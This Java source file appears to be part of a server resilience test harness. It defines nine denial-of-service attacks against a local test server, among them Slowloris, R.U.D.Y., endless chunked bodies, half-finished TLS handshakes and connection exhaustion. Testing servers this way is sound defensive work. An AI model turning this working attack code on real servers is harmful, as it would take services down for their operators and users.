package sotto.attack.server.strangers;

import java.io.IOException;
import java.net.Socket;
import java.util.ArrayList;
import java.util.List;
import sotto.attack.server.stage.Controls;
import sotto.attack.server.stage.Party;
import sotto.attack.server.stage.ServerAttack;
import sotto.attack.server.stage.Stage;
import sotto.attack.server.stage.Stage.Deed;
import sotto.attack.server.wire.TlsConnection;

/** Connections that are kept, left unfinished or not read. */
final class ConnectionAttacks {
  private static final int MANY = 1_000;
  private static final int SLOW = 200;
  private static final String POST =
      "POST /api/v1/session HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n";

  private ConnectionAttacks() {}

  static List<ServerAttack> all() {
    return List.of(
        of(
            "slow-headers",
            "hold connections by requests that never begin (Slowloris)",
            "sent headers on 200 connections, a byte at a time",
            stage -> slow(stage, "GET / HTTP/1.1\r\nHost: localhost\r\nX: ")),
        of(
            "slow-body",
            "hold requests by bodies that never come (R.U.D.Y.)",
            "announced bodies on 200 connections and sent them a byte at a time",
            stage -> slow(stage, POST + "Content-Length: 900\r\n\r\n")),
        of(
            "body-never-ended",
            "fill the memory with a body",
            "sent chunk after chunk of bodies that never end",
            ConnectionAttacks::endlessBodies),
        of(
            "unread-answers",
            "fill the memory with answers",
            "sent requests for the web client one behind the other and read no answer",
            ConnectionAttacks::unreadAnswers),
        of(
            "idle-connections",
            "leave no connection for others",
            "opened up to 1,000 connections with TLS and was silent",
            stage -> idle(stage, true)),
        of(
            "tls-never-begun",
            "leave no connection for others",
            "opened up to 1,000 connections without a byte of TLS",
            stage -> idle(stage, false)),
        of(
            "tls-never-finished",
            "hold handshakes open",
            "sent half a ClientHello on connection after connection",
            ConnectionAttacks::halfHandshakes),
        of(
            "tls-handshakes",
            "keep the processor busy with handshakes",
            "made handshakes one after the other and closed each connection",
            ConnectionAttacks::handshakes),
        of(
            "connections-reset",
            "have sockets left behind",
            "sent requests and reset each connection before the answer",
            ConnectionAttacks::resetConnections));
  }

  private static ServerAttack of(String id, String aim, String did, ServerAttack.Script script) {
    return new ServerAttack(id, Party.STRANGER, aim, did, script, Controls::http1);
  }

  private static void slow(Stage stage, String start) throws InterruptedException {
    List<TlsConnection> open = new ArrayList<>();
    for (int i = 0; i < SLOW; i++) {
      try {
        TlsConnection connection =
            stage.keep(TlsConnection.open(stage.server(), Stage.ADDRESS, "http/1.1"));
        connection.write(start);
        open.add(connection);
      } catch (IOException e) {
        stage.refused();
      }
    }
    stage.flood(
        1,
        () -> {
          for (TlsConnection connection : open) {
            writeOne(stage, connection);
          }
          stage.pause(500);
        });
  }

  private static void writeOne(Stage stage, TlsConnection connection) {
    try {
      connection.write("a");
      stage.did(1);
    } catch (IOException e) {
      stage.refused();
    }
  }

  private static void endlessBodies(Stage stage) throws InterruptedException {
    String chunk = "4000\r\n" + " ".repeat(0x4000) + "\r\n";
    stage.floodOver(
        4,
        () -> {
          TlsConnection connection =
              stage.keep(TlsConnection.open(stage.server(), Stage.ADDRESS, "http/1.1"));
          connection.write(POST + "Transfer-Encoding: chunked\r\n\r\n");
          return () -> connection.write(chunk);
        });
  }

  private static void unreadAnswers(Stage stage) throws InterruptedException {
    String requests = "GET / HTTP/1.1\r\nHost: localhost\r\n\r\n".repeat(100);
    stage.floodOver(
        8,
        () -> {
          TlsConnection connection =
              stage.keep(TlsConnection.open(stage.server(), Stage.ADDRESS, "http/1.1"));
          connection.readSlowly();
          return () -> connection.write(requests);
        });
  }

  private static void idle(Stage stage, boolean withTls) throws InterruptedException {
    stage.flood(
        4,
        () -> {
          if (stage.deeds() >= MANY) {
            stage.pause(100);
            return;
          }
          if (withTls) {
            stage.keep(TlsConnection.open(stage.server(), Stage.ADDRESS, "http/1.1"));
          } else {
            stage.keep(TlsConnection.tcp(stage.server(), Stage.ADDRESS));
          }
        });
  }

  private static void halfHandshakes(Stage stage) throws InterruptedException {
    // The head of a record of 512 bytes, and the head of a ClientHello in it.
    byte[] begun = {22, 3, 1, 2, 0, 1, 0, 1, (byte) 252, 3, 3};
    stage.flood(
        2,
        () -> {
          Socket socket = stage.keep(TlsConnection.tcp(stage.server(), Stage.ADDRESS));
          socket.getOutputStream().write(begun);
          stage.pause(2);
        });
  }

  private static void handshakes(Stage stage) throws InterruptedException {
    stage.floodOver(
        2,
        () ->
            (Deed)
                () -> {
                  try (TlsConnection _ =
                      TlsConnection.open(stage.server(), Stage.ADDRESS, "http/1.1")) {
                    stage.pause(1);
                  }
                });
  }

  private static void resetConnections(Stage stage) throws InterruptedException {
    stage.floodOver(
        2,
        () ->
            (Deed)
                () -> {
                  Socket tcp = TlsConnection.tcp(stage.server(), Stage.ADDRESS);
                  tcp.setSoLinger(true, 0); // its end is a reset
                  try (TlsConnection connection =
                      TlsConnection.over(stage.server(), tcp, "http/1.1")) {
                    connection.write("GET / HTTP/1.1\r\nHost: localhost\r\n\r\n");
                  }
                });
  }
}
